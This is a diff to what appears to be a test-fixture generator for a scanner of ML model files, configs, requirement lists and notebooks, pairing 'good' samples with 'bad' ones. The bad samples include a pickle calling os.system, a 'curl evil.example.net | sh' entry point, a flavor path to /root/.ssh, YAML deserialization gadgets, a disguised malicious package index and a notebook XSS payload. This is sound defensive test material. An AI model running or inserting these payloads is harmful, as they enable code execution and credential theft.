@@ -189,6 +189,22 @@ SKOPS = {
     "function": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}},
     "type": {"__class__": "type", "__module__": "builtins", "__loader__": "TypeNode", "content": {"__class__": "Popen", "__module__": "subprocess"}},
 }
+SKOPS["file"] = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "../../x.npy"}
+js("good-skops-file", {**SKOPS["file"], "file": "140.npy", "protocol": 2, "_skops_version": "0.11.0"})
+js("bad-encoded-pickle", {"model_type": "bert", "state": base64.b64encode(b"\x80\x04\x95\x17\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93(\x8c\x04truetR.").decode()})
+for name, target in (("bad-export-target", "torch.utils.collect_env.run"), ("good-export-target", "torch.ops.aten.add.Tensor")):
+    js(name, {"graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [{"target": target, "inputs": [], "outputs": [], "metadata": {}}]}}, "schema_version": {"major": 8, "minor": 1}})
+FLAVOR = "flavors:\n  python_function:\n    python_version: 3.11.0\n    loader_module: %s\n    %s\n"
+add("config/bad-flavor-data.yaml", FLAVOR % ("mlflow.pytorch", "data: /root/.ssh"))
+add("config/bad-flavor-path.yaml", FLAVOR % ("mlflow.sklearn", "model_path: ../../x"))
+add("config/bad-flavor-code.yaml", FLAVOR % ("mlflow.pyfunc.model", "model_code_path: agent.py"))
+add("config/good-flavor.yaml", FLAVOR % ("mlflow.sklearn", "model_path: model.pkl"))
+PROJECT = "name: x\nentry_points:\n  main:\n    command: \"%s\"\n"
+add("config/bad-project.yaml", PROJECT % "curl https://evil.example.net/x | sh")
+add("config/good-project.yaml", PROJECT % "python train.py --alpha {alpha}")
+add("config/bad-tag-java.yaml", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/\"]]]]\n")
+add("config/bad-tag-ruby.yaml", "a: !ruby/object:Gem::Requirement\n  b: c\n")
+add("config/good-tag.yaml", "a: !ruby/regexp /x/\nb: !!float 1.0\nc: !Ref bucket.name\n")
 for name, node in SKOPS.items():
     js(f"bad-skops-{name}", {**node, "protocol": 2, "_skops_version": "0.11.0"})
 packed = io.BytesIO()
@@ -315,6 +331,9 @@ add("list/good-pyproject.toml", "[build-system]\nrequires = [\"setuptools>=61\"]
 add("list/good-torchserve.properties", "inference_address=http://0.0.0.0:8080\nmanagement_address=http://127.0.0.1:8081\nmodel_store=/home/model-server/model-store\nload_models=all\n")
 add("list/good-names.txt", "cat\ndog\nbird\n")
 
+add("list/bad-continued.txt", "--extra-\\\nindex-url http://evil.example.net/simple\nnumpy\n")
+add("list/good-continued.txt", "torch==2.1.0 \\\n    --hash=sha256:00 \\\n    --hash=sha256:11\nnumpy==1.26.4\n")
+
 # --- notebooks --------------------------------------------------------------------------------------------------------------------------
 def notebook(*cells, outputs=()):
     return json.dumps({"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": list(outputs), "source": list(cell) if isinstance(cell, tuple) else cell} for cell in cells],
@@ -327,6 +346,9 @@ add("notebook/bad-bash-cell.ipynb", notebook(("%%bash\n", "bash -i >& /dev/tcp/2
 add("notebook/bad-python.ipynb", notebook("import torch\n", ("import os\n", "os.system('true')\n")))
 add("notebook/bad-encoded.ipynb", notebook(f"import base64\nexec(base64.b64decode('{ENCODED}'))\n"))
 add("notebook/bad-install.ipynb", notebook("!pip install --index-url http://evil.example.net/simple helper\n"))
+MARKDOWN = lambda text: json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "source": [text]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+add("notebook/bad-markdown.ipynb", MARKDOWN('<img src=x onerror="Jupyter.notebook.execute_all_cells()">'))
+add("notebook/good-markdown.ipynb", MARKDOWN("# Title\n<img src=x.png> `document.cookie` is read by pages."))
 add("notebook/bad-output.ipynb", notebook("1\n", outputs=[HTML("<script>Jupyter.notebook.kernel.execute('x')</script>")]))
 add("notebook/good-plain.ipynb", notebook("!pip install -q torch\n", "%matplotlib inline\nimport torch\nmodel.eval()\n", "!nvidia-smi\n", ("%%time\n", "x = torch.zeros(3)\n"), outputs=[HTML("<div><script>Plotly.newPlot('a', [])</script></div>")]))
 
